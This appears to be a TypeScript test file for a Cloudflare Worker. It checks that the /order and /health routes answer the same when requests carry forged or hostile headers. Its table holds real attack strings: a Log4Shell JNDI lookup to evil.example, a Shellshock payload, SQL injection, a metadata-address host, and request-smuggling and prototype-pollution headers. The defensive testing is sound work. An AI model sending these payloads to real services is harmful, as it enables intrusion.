import { env } from "cloudflare:workers";
import { FORM, post, type Case, type Cases } from "../support/case.ts";
import { CANARIES } from "../support/canaries.ts";
import { ROUTES } from "../support/routes.ts";
import { validForm } from "../support/signing.ts";

/** Headers that must not change an answer. */
const FORGED_HEADERS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "another host": { host: "evil.example" },
  "a host with a port that isn't a number": { host: "gateway.test:x" },
  "a host that is an internal address": { host: "169.254.169.254" },
  "another forwarded host": { "x-forwarded-host": "evil.example", "x-host": "evil.example" },
  "a chain of addresses": { "x-forwarded-for": "10.0.0.1, 127.0.0.1, ::1" },
  "an address that is SQL": { "x-forwarded-for": "' or 1=1--" },
  "headers of Cloudflare": {
    "cf-ray": "x",
    "cf-visitor": '{"scheme":"http"}',
    "cf-ipcountry": "T1",
    "cf-worker": "evil.example",
    "cdn-loop": "cloudflare; subreqs=1",
  },
  "another protocol": {
    "x-forwarded-proto": "http",
    "x-forwarded-ssl": "off",
    forwarded: "proto=http",
  },
  "another path": { "x-original-url": "/admin/apps", "x-rewrite-url": "/admin/apps" },
  "another method": { "x-http-method-override": "DELETE" },
  "a request id": { "x-request-id": "forged" },
  "a trace id": { traceparent: "00-forged", "x-b3-traceid": "forged" },
  "an origin": { origin: "https://evil.example", referer: "https://evil.example/" },
  "a null origin": { origin: "null" },
  cookies: { cookie: `session=${CANARIES.token}; __proto__=1` },
  "an unknown token": { authorization: `Bearer ${CANARIES.token}` },
  "the operator's token": { authorization: `Bearer ${env.ADMIN_TOKEN}` },
  "a range": { range: "bytes=0-0,1-1" },
  "conditional headers": { "if-none-match": "*", "if-match": '"x"', "if-modified-since": "x" },
  "an expectation": { expect: "100-continue" },
  "an upgrade": { upgrade: "websocket", connection: "Upgrade" },
  "the upgrade to HTTP/2": { "http2-settings": "AAMAAABkAAQAAP__" },
  "an Accept header of XML only": {
    accept: "text/xml",
    "accept-charset": "utf-7",
    "accept-encoding": "*;q=0",
  },
  "SQL as the language": { "accept-language": "' or 1=1--" },
  "a JNDI lookup": { "user-agent": "${jndi:ldap://evil.example/a}" },
  "shell syntax": { "user-agent": "() { :; }; /bin/id" },
  "a user agent of thirty thousand letters": { "user-agent": "x".repeat(30_000) },
  "a header outside ASCII": { "x-name": "中文\u202e" },
  "names of prototype properties": { __proto__: "x", constructor: "x" },
  "a wrong Content-Length": { "content-length": "5" },
  "a wrong Transfer-Encoding": { "transfer-encoding": "chunked" },
  "both Transfer-Encoding and Content-Length": {
    "transfer-encoding": "chunked, identity",
    "content-length": "0",
  },
};

const casesWith = (name: string, headers: Readonly<Record<string, string>>): readonly Case[] => [
  {
    name: `accepted: ${name}`,
    route: "POST /order",
    answer: "app 0",
    request: (target) => ({
      path: "/order",
      init: post(validForm(ROUTES["POST /order"], target).toString(), FORM, headers),
    }),
  },
  {
    name: `refused with an invalid sign: ${name}`,
    route: "POST /order",
    answer: "app 501",
    request: () => ({
      path: "/order",
      init: post(`appId=1&order_id=1&sign=${CANARIES.sign}`, FORM, headers),
    }),
  },
  {
    name: `healthy: ${name}`,
    route: "GET /health",
    answer: "health",
    // The health check calls an order's object.
    allows: "calls",
    request: () => ({ path: "/health?__proto__=1", init: { headers } }),
  },
];

export const headers: Cases = [
  ...Object.entries(FORGED_HEADERS).flatMap(([name, forged]) => casesWith(name, forged)),
  {
    name: "HEAD instead of GET",
    route: "GET /health",
    answer: "health",
    // The health check calls an order's object.
    allows: "calls",
    request: () => ({ path: "/health", init: { method: "HEAD" } }),
  },
  {
    name: "a query of sixty thousand letters",
    route: "GET /health",
    answer: "health",
    // The health check calls an order's object.
    allows: "calls",
    request: () => ({ path: `/health?${"a=1&".repeat(15_000)}`, init: {} }),
  },
];
